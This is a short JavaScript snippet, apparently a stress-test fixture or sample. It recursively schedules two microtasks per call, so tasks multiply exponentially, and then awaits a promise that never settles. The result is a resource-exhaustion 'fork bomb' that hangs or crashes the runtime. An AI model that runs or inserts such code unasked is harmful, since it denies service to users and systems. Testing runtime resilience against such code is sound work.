const split = () => { Promise.resolve().then(split); Promise.resolve().then(split); };
split();
await new Promise(() => {});
